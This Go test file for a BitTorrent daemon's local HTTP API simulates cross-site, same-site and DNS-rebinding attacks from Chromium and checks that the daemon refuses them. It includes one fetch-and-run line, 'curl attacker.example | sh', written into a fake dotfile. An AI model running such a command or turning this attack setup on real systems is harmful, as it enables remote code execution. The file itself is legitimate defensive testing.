@@ -1,0 +1,679 @@
+package browser
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"html/template"
+	"io"
+	"mime/multipart"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/gobit/gobit/internal/metainfo"
+	"github.com/gobit/gobit/internal/session"
+	"github.com/gobit/gobit/internal/testutil"
+)
+
+// npmHint says how to install what the test drives chromium with.
+const npmHint = "cd test/browser && PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD=1 npm ci"
+
+// apiTimeout bounds every HTTP request the test makes itself.
+const apiTimeout = 10 * time.Second
+
+// browserTimeout bounds the whole browser run.
+const browserTimeout = 3 * time.Minute
+
+// need skips the test (fails it under CI=true) with msg.
+func need(t *testing.T, msg string) {
+	t.Helper()
+	if testutil.InCI() {
+		t.Fatalf("%s (required when CI=true)", msg)
+	}
+	t.Skip(msg)
+}
+
+// result is what the attacker's page recorded about one request.
+type result struct {
+	Kind   string `json:"kind"`
+	Method string `json:"method"`
+	URL    string `json:"url"`
+	Host   string `json:"host"`
+	Path   string `json:"path"`
+	Type   string `json:"type"`   // fetch's response type: "opaque" for no-cors
+	Status int    `json:"status"` // 0 when opaque
+	Body   string `json:"body"`   // what the page could read
+	Error  string `json:"error"`  // fetch's rejection
+	Form   string `json:"form"`   // the enctype of a form post
+	Loaded bool   `json:"loaded"` // the form's answer loaded in its frame
+}
+
+// pageRun is one page's RESULT line from drive.js.
+type pageRun struct {
+	Page    string   `json:"page"`
+	URL     string   `json:"url"`
+	Results []result `json:"results"`
+}
+
+func TestBrowserCannotDriveDaemon(t *testing.T) {
+	if testing.Short() {
+		t.Skip("starts chromium and a daemon; skipped with -short")
+	}
+	chromium := testutil.NeedProgram(t, "chromium", "chromium")
+	node := testutil.NeedProgram(t, "node", "nodejs")
+	curl := testutil.NeedProgram(t, "curl", "curl")
+	here := filepath.Join(moduleRoot(t), "test", "browser")
+	if _, err := os.Stat(filepath.Join(here, "node_modules", "playwright-core", "package.json")); err != nil {
+		need(t, "playwright-core is not installed in test/browser/node_modules; install it with: "+npmHint)
+	}
+
+	tmp := t.TempDir()
+	bin := buildGobit(t, tmp)
+	var (
+		downloads  = filepath.Join(tmp, "downloads")
+		victim     = filepath.Join(tmp, "home")           // where the attacker wants data written
+		attackMove = filepath.Join(tmp, "attacker-moved") // where the attacker wants the torrent moved
+		userMove   = filepath.Join(tmp, "user-moved")     // where the test moves it afterwards
+		userAdd    = filepath.Join(tmp, "user-added")     // download_dir of the test's own adds
+	)
+	for _, d := range []string{downloads, victim} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// The victim's dotfile, which the attack's .torrent would overwrite.
+	dotfile := filepath.Join(victim, ".profile")
+	dotContent := []byte("# the user's own shell profile\n")
+	if err := os.WriteFile(dotfile, dotContent, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	// The torrent the daemon seeds: its data is already in downloads.
+	payload := make([]byte, 96<<10)
+	rand.Read(payload)
+	payloadPath := filepath.Join(downloads, "payload.bin")
+	if err := os.WriteFile(payloadPath, payload, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	seedTorrent, seedMI, err := metainfo.Create(metainfo.CreateOptions{Path: payloadPath, PieceLength: 16 << 10})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The attacker's torrent: one file named like the victim's dotfile.
+	evilSrc := filepath.Join(tmp, "evil", ".profile")
+	if err := os.MkdirAll(filepath.Dir(evilSrc), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(evilSrc, []byte("curl attacker.example | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	evilTorrent, _, err := metainfo.Create(metainfo.CreateOptions{Path: evilSrc})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	dm := startDaemon(t, bin, downloads, filepath.Join(tmp, "data"), filepath.Join(tmp, "gobit.log"))
+	seed := dm.addTorrent(t, seedTorrent)
+	if want := seedMI.InfoHash.String(); seed.InfoHash != want {
+		t.Fatalf("added hash %s, want %s", seed.InfoHash, want)
+	}
+	dm.waitState(t, seed.InfoHash, session.StateSeeding, 30*time.Second)
+	settingsBefore := dm.getJSON(t, "/api/v1/session")
+
+	// The attacker's web server, on another port of 127.0.0.1. Chromium
+	// reaches it as attacker.example (another site), as 127.0.0.1 (same
+	// site, another origin), and it hands out the page that the DNS
+	// rebinding run shows under the daemon's own origin.
+	attackJS, err := os.ReadFile(filepath.Join(here, "attack.js"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	attacker := newAttackerServer(t, attackJS)
+	_, dport, _ := net.SplitHostPort(dm.addr)
+	_, aport, _ := net.SplitHostPort(attacker.addr)
+	common := map[string]any{
+		"infoHash":   seed.InfoHash,
+		"victimDir":  victim,
+		"moveDir":    attackMove,
+		"torrentB64": base64.StdEncoding.EncodeToString(evilTorrent),
+	}
+	page := func(name, prefix, mode string, targets ...string) string {
+		cfg := map[string]any{"mode": mode, "hashPrefix": prefix, "targets": targets}
+		for k, v := range common {
+			cfg[k] = v
+		}
+		attacker.setPage("/"+name+".html", cfg)
+		return "/" + name + ".html"
+	}
+	crossPath := page("cross-site", "c0", "no-cors",
+		"http://127.0.0.1:"+dport, "http://localhost:"+dport, "http://rebind.example:"+dport)
+	samePath := page("same-site", "5a", "no-cors", "http://127.0.0.1:"+dport)
+	rebindPath := page("rebound", "eb", "cors", "http://rebind.example:"+dport)
+
+	cfg := map[string]any{
+		"chromium":    chromium,
+		"userDataDir": filepath.Join(tmp, "chromium-profile"),
+		"hostRules":   "MAP attacker.example 127.0.0.1, MAP rebind.example 127.0.0.1",
+		"timeoutMs":   (browserTimeout - 30*time.Second).Milliseconds(),
+		"pages": []map[string]any{
+			{"name": "cross-site", "url": "http://attacker.example:" + aport + crossPath},
+			{"name": "same-site", "url": "http://127.0.0.1:" + aport + samePath},
+			{"name": "rebound", "url": "http://rebind.example:" + dport + rebindPath,
+				"fulfillFrom": "http://" + attacker.addr + rebindPath,
+				// A rebound page came from the public internet, and
+				// chromium's Local Network Access checks alone would stop
+				// its requests to loopback. Browsers without those checks
+				// (Firefox, Safari, older Chrome) send them, so they are
+				// off for this page: the daemon must refuse the requests
+				// itself.
+				"args": []string{"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"},
+			},
+		},
+	}
+	cfgPath := filepath.Join(tmp, "drive.json")
+	if data, err := json.Marshal(cfg); err != nil {
+		t.Fatal(err)
+	} else if err := os.WriteFile(cfgPath, data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	logStart := dm.logSize(t)
+	ctx, cancel := context.WithTimeout(context.Background(), browserTimeout)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, node, filepath.Join(here, "drive.js"), cfgPath)
+	cmd.Dir = here
+	cmd.Env = append(os.Environ(), "PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD=1", "HOME="+tmp)
+	cmd.WaitDelay = 10 * time.Second
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("node drive.js: %v\n--- its output ---\n%s", err, out)
+	}
+	runs := parseRuns(t, out)
+	daemonLog := dm.logFrom(t, logStart)
+	failed := false
+	defer func() {
+		if failed || t.Failed() {
+			t.Logf("--- drive.js output ---\n%s", out)
+			t.Logf("--- daemon log during the browser run ---\n%s", tail(daemonLog, 16<<10))
+		}
+	}()
+
+	// 1. The browser really sent the requests, and the daemon refused them.
+	refused := map[string]int{}
+	for _, m := range refusedRE.FindAllStringSubmatch(daemonLog, -1) {
+		refused[m[1]+" "+m[3]+m[2]]++
+	}
+	for _, m := range passedRE.FindAllStringSubmatch(daemonLog, -1) {
+		if m[1] != "GET" && m[1] != "HEAD" && m[1] != "OPTIONS" {
+			t.Errorf("a browser's state-changing request passed the checks: %s", m[0])
+		}
+	}
+	want := map[string]int{}
+	total := 0
+	for _, name := range []string{"cross-site", "same-site", "rebound"} {
+		run, ok := runs[name]
+		if !ok {
+			t.Fatalf("drive.js printed no result for page %s", name)
+		}
+		if len(run.Results) == 0 {
+			t.Fatalf("page %s recorded no requests", name)
+		}
+		for _, r := range run.Results {
+			if r.Kind == "script error" {
+				t.Fatalf("page %s: attack script failed: %s", name, r.Error)
+			}
+			// Only no-cors POSTs and form posts are sent without a
+			// preflight from another origin; from the rebound page, which
+			// is same-origin, everything is.
+			sent := r.Method == "POST" || name == "rebound"
+			if sent {
+				want[r.Method+" "+r.Host+r.Path]++
+				total++
+			}
+			switch {
+			case name == "rebound" && r.Form == "":
+				if r.Status != http.StatusForbidden || !strings.Contains(r.Body, "--api-allowed-hosts") {
+					t.Errorf("rebound page, %s: status %d %q %s, want 403 naming --api-allowed-hosts", r.Kind, r.Status, r.Body, r.Error)
+				}
+			case r.Form != "":
+				if !r.Loaded {
+					t.Errorf("page %s, %s: the form's answer never loaded (%s)", name, r.Kind, r.Error)
+				}
+			case r.Method == "POST":
+				if r.Type != "opaque" || r.Error != "" {
+					t.Errorf("page %s, %s: no-cors POST gave type %q, error %q; want an opaque answer", name, r.Kind, r.Type, r.Error)
+				}
+			default: // preflighted or CORS-read from another origin
+				if r.Error == "" {
+					t.Errorf("page %s, %s %s: the page could read the answer (%d %q); the daemon must send no CORS headers",
+						name, r.Kind, r.Method, r.Status, r.Body)
+				}
+			}
+		}
+	}
+	for k, n := range want {
+		if refused[k] < n {
+			t.Errorf("%s: the browser tried it %d times, the daemon logged %d refusals", k, n, refused[k])
+		}
+	}
+	t.Logf("browser run: %d requests reached the daemon from the three pages, all refused with 403 (%d refusals logged)",
+		total, len(refusedRE.FindAllStringIndex(daemonLog, -1)))
+
+	// 2. Nothing was added, moved, paused or deleted.
+	var list []session.Status
+	dm.getInto(t, "/api/v1/torrents", &list)
+	if len(list) != 1 || list[0].InfoHash != seed.InfoHash {
+		var hashes []string
+		for _, s := range list {
+			hashes = append(hashes, s.InfoHash+" "+s.Name+" in "+s.SaveDir)
+		}
+		t.Errorf("after the browser run the daemon has %d torrents, want only the seeded one: %v", len(list), hashes)
+	}
+	d := dm.detail(t, seed.InfoHash)
+	if d.SaveDir != downloads || d.State != session.StateSeeding {
+		t.Errorf("seeded torrent: save dir %q state %q, want %q seeding", d.SaveDir, d.State, downloads)
+	}
+	if got, err := os.ReadFile(payloadPath); err != nil || !bytes.Equal(got, payload) {
+		t.Errorf("the seeded data file changed or is gone: %v", err)
+	}
+	if got, err := os.ReadFile(dotfile); err != nil || !bytes.Equal(got, dotContent) {
+		t.Errorf("the victim's dotfile changed: %q, %v", got, err)
+	}
+	if ents, err := os.ReadDir(victim); err != nil || len(ents) != 1 {
+		t.Errorf("the victim directory holds %d entries (%v), want only .profile", len(ents), err)
+	}
+	if _, err := os.Stat(attackMove); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("the attacker's move target exists: %v", err)
+	}
+	if after := dm.getJSON(t, "/api/v1/session"); after != settingsBefore {
+		t.Errorf("session settings changed: %s, were %s", after, settingsBefore)
+	}
+	failed = t.Failed()
+
+	// 3. The same requests sent like curl (no Origin, no Sec-Fetch-*) work.
+	m1 := "magnet:?xt=urn:btih:" + strings.Repeat("1", 40) + "&dn=curl-compat"
+	cout, err := exec.Command(curl, "--silent", "--show-error", "--max-time", "10", "--noproxy", "*",
+		"--location", "localhost:"+dport+"/add/magnet",
+		"--header", "Content-Type: text/plain",
+		"--data", m1).CombinedOutput()
+	if err != nil || !strings.Contains(string(cout), strings.Repeat("1", 40)) {
+		t.Errorf("the original curl line: %v: %s", err, cout)
+	}
+	m2 := "magnet:?xt=urn:btih:" + strings.Repeat("2", 40) + "&dn=curl-dir"
+	cout, err = exec.Command(curl, "--silent", "--show-error", "--max-time", "10", "--noproxy", "*",
+		"--output", "/dev/null", "--write-out", "%{http_code}",
+		"http://127.0.0.1:"+dport+"/api/v1/torrents?download_dir="+userAdd,
+		"--header", "Content-Type: text/plain", "--data", m2).CombinedOutput()
+	if err != nil || strings.TrimSpace(string(cout)) != "201" {
+		t.Errorf("curl add with download_dir: %v: %s", err, cout)
+	}
+	m3 := "magnet:?xt=urn:btih:" + strings.Repeat("3", 40) + "&dn=multipart"
+	var mp bytes.Buffer
+	mw := multipart.NewWriter(&mp)
+	mw.WriteField("uri", m3)
+	mw.WriteField("download_dir", userAdd)
+	mw.Close()
+	if code, body := dm.do(t, "POST", "/api/v1/torrents", mw.FormDataContentType(), mp.Bytes()); code != http.StatusCreated {
+		t.Errorf("multipart add: %d %s", code, body)
+	}
+	if code, body := dm.do(t, "POST", "/api/v1/torrents/"+seed.InfoHash+"/pause", "", nil); code != http.StatusNoContent {
+		t.Errorf("pause: %d %s", code, body)
+	}
+	mv, _ := json.Marshal(map[string]string{"path": userMove})
+	if code, body := dm.do(t, "POST", "/api/v1/torrents/"+seed.InfoHash+"/move", "", mv); code != http.StatusNoContent {
+		t.Errorf("move without Content-Type: %d %s", code, body)
+	}
+	moved := filepath.Join(userMove, "payload.bin")
+	waitFor(t, 20*time.Second, "the data to arrive in "+userMove, func() bool {
+		got, err := os.ReadFile(moved)
+		return err == nil && bytes.Equal(got, payload)
+	})
+	if code, body := dm.do(t, "DELETE", "/api/v1/torrents/"+seed.InfoHash+"?delete_data=true", "", nil); code != http.StatusNoContent {
+		t.Errorf("delete with data: %d %s", code, body)
+	}
+	waitFor(t, 20*time.Second, "the data to be deleted", func() bool {
+		_, err := os.Stat(moved)
+		return errors.Is(err, os.ErrNotExist)
+	})
+	list = nil
+	dm.getInto(t, "/api/v1/torrents", &list)
+	got := map[string]bool{}
+	for _, s := range list {
+		got[s.InfoHash] = true
+	}
+	for _, h := range []string{strings.Repeat("1", 40), strings.Repeat("2", 40), strings.Repeat("3", 40)} {
+		if !got[h] {
+			t.Errorf("torrent %s added like curl is missing from the list", h)
+		}
+	}
+	if got[seed.InfoHash] {
+		t.Error("the deleted torrent is still listed")
+	}
+}
+
+var (
+	// refusedRE matches the daemon's debug record of a refused request.
+	refusedRE = regexp.MustCompile(`msg="api request refused" method=(\S+) path=(\S+) host=(\S+)`)
+	// passedRE matches the record of a request that passed the checks.
+	passedRE = regexp.MustCompile(`msg="api request" method=(\S+) path=(\S+) status=(\d+)`)
+)
+
+// parseRuns reads drive.js's RESULT lines.
+func parseRuns(t *testing.T, out []byte) map[string]pageRun {
+	t.Helper()
+	runs := map[string]pageRun{}
+	sc := bufio.NewScanner(bytes.NewReader(out))
+	sc.Buffer(make([]byte, 1<<20), 16<<20)
+	for sc.Scan() {
+		line, ok := strings.CutPrefix(sc.Text(), "RESULT ")
+		if !ok {
+			continue
+		}
+		var r pageRun
+		if err := json.Unmarshal([]byte(line), &r); err != nil {
+			t.Fatalf("drive.js: bad RESULT line %q: %v\n%s", line, err, out)
+		}
+		runs[r.Page] = r
+	}
+	return runs
+}
+
+// attackerServer serves the attacker's pages on 127.0.0.1.
+type attackerServer struct {
+	addr   string
+	script []byte
+	mu     sync.Mutex
+	pages  map[string]map[string]any
+}
+
+var pageTmpl = template.Must(template.New("page").Parse(`<!doctype html>
+<html><head><meta charset="utf-8"><title>totally harmless page</title></head>
+<body><p>Nothing to see here.</p>
+<script>const CFG = {{.CFG}};</script>
+<script>{{.Script}}</script>
+</body></html>
+`))
+
+func newAttackerServer(t *testing.T, script []byte) *attackerServer {
+	t.Helper()
+	a := &attackerServer{script: script, pages: map[string]map[string]any{}}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	a.addr = ln.Addr().String()
+	srv := &http.Server{Handler: a, ReadHeaderTimeout: 10 * time.Second}
+	go srv.Serve(ln)
+	t.Cleanup(func() { srv.Close() })
+	return a
+}
+
+func (a *attackerServer) setPage(path string, cfg map[string]any) {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	a.pages[path] = cfg
+}
+
+func (a *attackerServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	a.mu.Lock()
+	cfg, ok := a.pages[r.URL.Path]
+	a.mu.Unlock()
+	if !ok {
+		http.NotFound(w, r)
+		return
+	}
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	w.Header().Set("Cache-Control", "no-store")
+	// html/template writes CFG as a JavaScript value and the script as
+	// JavaScript text.
+	err := pageTmpl.Execute(w, map[string]any{"CFG": cfg, "Script": template.JS(a.script)})
+	if err != nil {
+		http.Error(w, err.Error(), http.StatusInternalServerError)
+	}
+}
+
+// moduleRoot walks up from the working directory to the directory holding
+// go.mod.
+func moduleRoot(t *testing.T) string {
+	t.Helper()
+	dir, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for {
+		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
+			return dir
+		}
+		parent := filepath.Dir(dir)
+		if parent == dir {
+			t.Fatal("no go.mod above the test's working directory")
+		}
+		dir = parent
+	}
+}
+
+// buildGobit compiles ./cmd/gobit into dir.
+func buildGobit(t *testing.T, dir string) string {
+	t.Helper()
+	goBin, err := exec.LookPath("go")
+	if err != nil {
+		goBin = filepath.Join(os.Getenv("GOROOT"), "bin", "go")
+	}
+	bin := filepath.Join(dir, "gobit")
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, goBin, "build", "-o", bin, "./cmd/gobit")
+	cmd.Dir = moduleRoot(t)
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("go build ./cmd/gobit: %v\n%s", err, out)
+	}
+	return bin
+}
+
+// daemon is a running "gobit serve".
+type daemon struct {
+	addr   string // 127.0.0.1:port of the API
+	base   string
+	logf   string
+	client *http.Client
+}
+
+// startDaemon starts "gobit serve" on a free loopback port with DHT and
+// local discovery off, and waits until the API answers. It is killed at
+// test cleanup.
+func startDaemon(t *testing.T, bin, downloads, data, logf string) *daemon {
+	t.Helper()
+	var lastErr error
+	for attempt := 0; attempt < 3; attempt++ {
+		port, err := testutil.FreePort()
+		if err != nil {
+			t.Fatal(err)
+		}
+		dm, err := tryStartDaemon(t, bin, "127.0.0.1:"+strconv.Itoa(port), downloads, data, logf)
+		if err == nil {
+			return dm
+		}
+		lastErr = err
+	}
+	t.Fatalf("gobit serve did not start: %v", lastErr)
+	return nil
+}
+
+func tryStartDaemon(t *testing.T, bin, addr, downloads, data, logf string) (*daemon, error) {
+	out, err := os.Create(logf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer out.Close()
+	cmd := exec.Command(bin, "serve", "--addr", addr, "--port", "0", "--listen-host", "127.0.0.1",
+		"--no-lsd", "--no-dht", "--download-dir", downloads, "--data-dir", data, "--log-level", "debug")
+	var env []string
+	for _, kv := range os.Environ() {
+		if !strings.HasPrefix(kv, "GOBIT_") {
+			env = append(env, kv)
+		}
+	}
+	cmd.Env = env
+	cmd.Stdout, cmd.Stderr = out, out
+	if err := cmd.Start(); err != nil {
+		t.Fatalf("start gobit serve: %v", err)
+	}
+	exited := make(chan struct{})
+	go func() { cmd.Wait(); close(exited) }()
+	stop := func() {
+		cmd.Process.Kill()
+		select {
+		case <-exited:
+		case <-time.After(10 * time.Second):
+			t.Errorf("gobit serve (pid %d) still running 10 s after SIGKILL", cmd.Process.Pid)
+		}
+	}
+	dm := &daemon{addr: addr, base: "http://" + addr, logf: logf, client: &http.Client{Timeout: apiTimeout}}
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		select {
+		case <-exited:
+			b, _ := os.ReadFile(logf)
+			return nil, fmt.Errorf("exited at startup:\n%s", tail(string(b), 4096))
+		default:
+		}
+		if resp, err := dm.client.Get(dm.base + "/api/v1/torrents"); err == nil {
+			io.Copy(io.Discard, resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode == http.StatusOK {
+				t.Cleanup(stop)
+				return dm, nil
+			}
+		}
+		if time.Now().After(deadline) {
+			stop()
+			b, _ := os.ReadFile(logf)
+			return nil, fmt.Errorf("API at %s did not answer within 20 s:\n%s", addr, tail(string(b), 4096))
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// do sends a request without Origin or Sec-Fetch-* headers, as curl would,
+// and returns the status and body.
+func (dm *daemon) do(t *testing.T, method, path, ctype string, body []byte) (int, string) {
+	t.Helper()
+	req, err := http.NewRequest(method, dm.base+path, bytes.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ctype != "" {
+		req.Header.Set("Content-Type", ctype)
+	}
+	resp, err := dm.client.Do(req)
+	if err != nil {
+		t.Fatalf("%s %s: %v", method, path, err)
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+	if err != nil {
+		t.Fatalf("%s %s: %v", method, path, err)
+	}
+	return resp.StatusCode, string(b)
+}
+
+func (dm *daemon) addTorrent(t *testing.T, data []byte) session.Status {
+	t.Helper()
+	code, body := dm.do(t, "POST", "/api/v1/torrents", "application/x-bittorrent", data)
+	if code != http.StatusCreated {
+		t.Fatalf("add torrent: %d %s", code, body)
+	}
+	var st session.Status
+	if err := json.Unmarshal([]byte(body), &st); err != nil {
+		t.Fatal(err)
+	}
+	return st
+}
+
+func (dm *daemon) getJSON(t *testing.T, path string) string {
+	t.Helper()
+	code, body := dm.do(t, "GET", path, "", nil)
+	if code != http.StatusOK {
+		t.Fatalf("GET %s: %d %s", path, code, body)
+	}
+	return body
+}
+
+func (dm *daemon) getInto(t *testing.T, path string, v any) {
+	t.Helper()
+	if err := json.Unmarshal([]byte(dm.getJSON(t, path)), v); err != nil {
+		t.Fatalf("GET %s: %v", path, err)
+	}
+}
+
+func (dm *daemon) detail(t *testing.T, hash string) session.Detail {
+	t.Helper()
+	var d session.Detail
+	dm.getInto(t, "/api/v1/torrents/"+hash, &d)
+	return d
+}
+
+func (dm *daemon) waitState(t *testing.T, hash string, want session.State, timeout time.Duration) {
+	t.Helper()
+	var d session.Detail
+	waitFor(t, timeout, "torrent "+hash+" to be "+string(want), func() bool {
+		d = dm.detail(t, hash)
+		return d.State == want
+	})
+}
+
+// logSize returns the daemon log's current length.
+func (dm *daemon) logSize(t *testing.T) int64 {
+	t.Helper()
+	fi, err := os.Stat(dm.logf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return fi.Size()
+}
+
+// logFrom returns the daemon log from offset on.
+func (dm *daemon) logFrom(t *testing.T, offset int64) string {
+	t.Helper()
+	b, err := os.ReadFile(dm.logf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if offset > int64(len(b)) {
+		offset = int64(len(b))
+	}
+	return string(b[offset:])
+}
+
+// waitFor polls cond every 20 ms until it holds, failing the test after
+// timeout.
+func waitFor(t *testing.T, timeout time.Duration, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.Now().Add(timeout)
+	for !cond() {
+		if time.Now().After(deadline) {
+			t.Fatalf("timed out after %v waiting for %s", timeout, what)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+func tail(s string, n int) string {
+	if len(s) <= n {
+		return s
+	}
+	return "…" + s[len(s)-n:]
+}
